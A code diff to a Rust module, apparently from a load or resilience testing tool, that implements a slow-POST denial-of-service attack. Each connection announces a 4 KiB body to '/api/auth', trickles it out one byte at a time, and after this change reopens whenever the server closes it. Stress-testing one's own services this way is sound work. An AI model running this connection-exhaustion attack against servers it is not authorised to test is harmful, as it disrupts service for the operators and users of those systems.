@@ -1,5 +1,6 @@
 //! `slow-body`: each connection starts `POST /api/auth` with a 4 KiB Content-Length and then
-//! trickles one body byte per `trickle-interval`, reading whatever the server answers.
+//! trickles one body byte per `trickle-interval`, reading whatever the server answers; a
+//! connection the server ends is opened again.
 
 use std::sync::Arc;
 
@@ -11,12 +12,12 @@ use super::conn::Attack;
 const ANNOUNCED: usize = 4096;
 
 pub(crate) async fn run(attack: &Arc<Attack>) {
-    attack.each(connection).await;
+    attack.each_repeating(connection).await;
 }
 
-async fn connection(attack: Arc<Attack>, i: usize) {
+async fn connection(attack: Arc<Attack>, i: usize) -> bool {
     let Some(mut stream) = attack.connect(i).await else {
-        return;
+        return false;
     };
     let head = format!(
         "POST /api/auth HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n\
@@ -25,22 +26,23 @@ async fn connection(attack: Arc<Attack>, i: usize) {
     );
     attack.tally.request_started();
     if !attack.send(&mut stream, head.as_bytes()).await {
-        return;
+        return false;
     }
-    trickle(&attack, &mut stream).await;
+    trickle(&attack, &mut stream).await
 }
 
 /// One byte, then a wait of `trickle-interval` during which the connection is held (and
-/// watched for the server's answer or close), until the end or the announced length.
-async fn trickle(attack: &Attack, stream: &mut TcpStream) {
+/// watched for the server's answer or close), until the end or the announced length. True when
+/// it held to the end.
+async fn trickle(attack: &Attack, stream: &mut TcpStream) -> bool {
     for _ in 0..ANNOUNCED {
         if !attack.send(stream, b" ").await {
-            return;
+            return false;
         }
         let waited = tokio::time::timeout(attack.config.trickle_interval, attack.hold(stream));
-        match waited.await {
-            Err(_) => {}                    // the interval passed: next byte
-            Ok(true) | Ok(false) => return, // the end, or the server closed
+        if let Ok(held) = waited.await {
+            return held; // the end, or the server closed
         }
     }
+    attack.hold(stream).await
 }
